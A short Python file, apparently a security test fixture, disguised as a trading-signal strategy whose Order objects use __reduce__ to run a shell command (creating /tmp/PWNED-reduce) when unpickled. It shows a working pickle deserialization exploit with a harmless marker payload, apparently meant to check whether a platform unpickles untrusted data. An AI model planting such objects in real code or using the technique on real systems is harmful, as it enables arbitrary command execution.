# An object that runs a command where it is unpickled.
import os


class Order(dict):
    def __reduce__(self):
        return os.system, ("touch /tmp/PWNED-reduce",)


def generate_signals(data, parameters):
    return [Order(symbol="BTCUSDT", action="BUY", metadata={"order": Order()})]
